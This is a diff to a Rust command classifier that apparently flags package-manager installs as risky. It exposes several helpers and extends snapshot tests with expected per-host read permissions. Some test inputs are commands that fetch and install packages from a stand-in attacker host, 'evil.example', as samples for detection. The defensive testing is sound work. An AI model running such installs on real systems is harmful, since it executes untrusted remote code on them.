@@ -91,7 +91,7 @@ fn option<'w>(invocation: &'w Invocation, names: &[&str]) -> Option<Option<&'w s
 }
 
 /// The registry: as an option says, a variable, a file, or the usual one; none where it is not known.
-fn registry(invocation: &Invocation, context: &Context<'_>) -> Option<String> {
+pub(super) fn registry(invocation: &Invocation, context: &Context<'_>) -> Option<String> {
     let program = invocation.program.as_str();
     if let Some(given) = option(invocation, REGISTRIES) {
         return given.map(host);
@@ -130,7 +130,7 @@ fn registry(invocation: &Invocation, context: &Context<'_>) -> Option<String> {
 }
 
 /// The host of an address, or the name that a registry has in a configuration.
-fn host(address: &str) -> String {
+pub(super) fn host(address: &str) -> String {
     let address = address.trim().trim_matches(['"', '\'']);
     let found = crate::families::addresses::host_and_path(address).filter(|_| address.contains("://"));
     match found.map(|(host, _)| host).as_deref() {
@@ -253,7 +253,7 @@ pub(super) fn other_sources(invocation: &Invocation, context: &mut Context<'_>) 
 const DIRECTORIES: &[&str] = &["--prefix", "-C", "--dir", "--cwd", "-w", "--workspace", "--filter", "-F", "--cache", "--userconfig", "--tag", "--modules-folder"];
 
 /// `acme/shop`, `github:acme/shop`, `git@github.com:acme/shop.git`: a repository to a package manager of node's.
-fn is_repository(text: &str, invocation: &Invocation) -> bool {
+pub(super) fn is_repository(text: &str, invocation: &Invocation) -> bool {
     if text.contains("://") || text.starts_with('-') || !matches!(invocation.program.as_str(), "npm" | "pnpm" | "yarn" | "bun") {
         return false;
     }
@@ -346,41 +346,57 @@ mod tests {
         assert_snapshot!(check("pip install --index-url http://x.example/simple a"), @"
         exec.install pip install, execute
         exec.remote-code pip install --index-url, execute
+        package.read * on x.example, read
         ");
         assert_snapshot!(check("pip install --extra-index-url=https://x.example/simple a; npm install --registry https://x.example a"), @"
         exec.install pip install, execute
         exec.install pip install --extra-index-url=https://x.example/simp, execute, partial
+        package.read * on pypi, read
+        package.read * on x.example, read
         exec.install npm install, execute
         exec.install npm install --registry, execute, partial
         ");
         assert_snapshot!(check("npm install https://evil.example/x.tgz; pip install https://evil.example/x.whl; npm i x@https://evil.example/x.tgz"), @"
         exec.install npm install, execute
         exec.remote-code npm install https://evil.example/x.tgz, execute
+        package.read * on npm, read
+        package.read * on evil.example, read
         exec.install pip install, execute
         exec.remote-code pip install https://evil.example/x.whl, execute
+        package.read * on pypi, read
         exec.install npm i, execute
         exec.remote-code npm i x@https://evil.example/x.tgz, execute
         ");
         assert_snapshot!(check("npm install https://github.com/a/b/archive/1.tar.gz; npm i git+https://git.acme.example/a.git"), @"
         exec.install npm install, execute
         exec.install npm install https://github.com/a/b/archive/1.tar.gz, execute, partial
+        package.read * on npm, read
+        package.read * on github.com, read
         exec.install npm i, execute
         exec.install npm i git+https://git.acme.example/a.git, execute, partial
+        package.read * on git.acme.example, read
         ");
         assert_snapshot!(check("npm i acme/shop; npm i x@github:acme/shop; npm i git@github.com:a/b.git"), @"
         exec.install npm i, execute
         exec.install npm i acme/shop, execute, partial
+        package.read * on npm, read
+        package.read * on github.com, read
         exec.install npm i x@github:acme/shop, execute, partial
         exec.install npm i git@github.com:a/b.git, execute, partial
         ");
         assert_snapshot!(check("npm i @acme/shop ./local/a left-pad@1.0.0 @acme/x@2; npm ci --prefix web/app"), @"
         exec.install npm i, execute
+        package.read * on npm, read
         exec.install npm ci, execute
+        package.read * on github.com, read
         ");
         assert_snapshot!(check("pip install git+https://github.com/a/b; pip install requests; npm i"), @"
         exec.install pip install, execute
         exec.install pip install git+https://github.com/a/b, execute, partial
+        package.read * on pypi, read
+        package.read * on github.com, read
         exec.install npm i, execute
+        package.read * on npm, read
         ");
     }
 }
